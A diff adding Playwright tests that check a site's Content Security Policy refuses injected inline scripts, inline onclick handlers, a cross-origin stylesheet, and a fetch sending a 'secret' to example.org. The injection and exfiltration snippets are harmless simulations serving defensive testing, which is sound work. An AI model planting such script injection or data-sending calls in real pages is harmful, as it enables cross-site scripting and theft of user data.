@@ -1,0 +1,51 @@
+import { open } from './support/page';
+import { expect, test, type Page, type Watch } from './support/test';
+
+/** Does what an attacker would and returns what the policy refused. */
+async function plant(page: Page, seen: Watch, act: () => void): Promise<string[]> {
+  await open(page, '/concepts/streaming');
+  await page.evaluate(act);
+  await expect.poll(() => seen.violations.length).toBeGreaterThan(0);
+  expect(seen.messages.join('\n')).toContain(`policy: ${seen.violations[0]}`);
+  return seen.violations.splice(0);
+}
+
+const hasRun = (page: Page) => page.evaluate(() => 'planted' in window);
+
+test('an inline script that nobody named does not run', async ({ page, seen }) => {
+  const refused = await plant(page, seen, () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.planted = true';
+    document.body.append(script);
+  });
+  expect(refused).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
+  expect(await hasRun(page)).toBe(false);
+});
+
+test('nor does an event handler in markup', async ({ page, seen }) => {
+  const refused = await plant(page, seen, () => {
+    const button = document.createElement('button');
+    button.setAttribute('onclick', 'window.planted = true');
+    button.click();
+  });
+  expect(refused).toEqual([expect.stringMatching(/^script-src-attr refuses inline/)]);
+  expect(await hasRun(page)).toBe(false);
+});
+
+test('nothing is sent to another origin', async ({ page, seen }) => {
+  const refused = await plant(page, seen, () => {
+    void fetch('https://example.org/?secret').catch(() => undefined);
+  });
+  expect(refused).toEqual([expect.stringMatching(/^connect-src refuses https:\/\/example\.org/)]);
+  expect(seen.foreign.filter((url) => url.includes('example.org'))).toEqual([]);
+});
+
+test('a stylesheet of another origin is not asked for', async ({ page, seen }) => {
+  const refused = await plant(page, seen, () => {
+    const link = document.createElement('link');
+    link.rel = 'stylesheet';
+    link.href = 'https://cdn.jsdelivr.net/npm/other@1.0.0/a.css';
+    document.head.append(link);
+  });
+  expect(refused).toEqual([expect.stringMatching(/^style-src-elem refuses https:\/\/cdn/)]);
+});
